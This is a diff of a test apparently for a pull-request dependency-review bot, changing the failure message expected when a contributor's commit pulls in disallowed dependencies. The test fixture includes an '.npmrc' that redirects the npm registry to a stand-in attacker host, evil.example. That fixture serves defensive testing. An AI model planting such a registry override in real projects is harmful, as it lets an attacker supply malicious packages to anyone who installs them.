@@ -105,7 +105,7 @@ describe("a pull request", () => {
     const head = rig.github.commit("eve/shop", "topic", { ...evil, ".npmrc": "registry=https://evil.example/\n" }, "eve");
     rig.github.as("eve").request("POST", `/repos/${shop}/pulls`, { title: "Fix", head: "eve:topic", base: "main" });
     await work(rig);
-    expect(reviews(rig, head)).toMatchObject([{ conclusion: "failure", output: { title: "minimist 1.2.0 is vulnerable" } }]);
+    expect(reviews(rig, head)).toMatchObject([{ conclusion: "failure", output: { title: "4 dependencies should not come in" } }]);
     expect(asked).toEqual([]);
     // Somebody clicks "Re-run"; the base does not know whose commit it is.
     const [check] = reviews(rig, head);
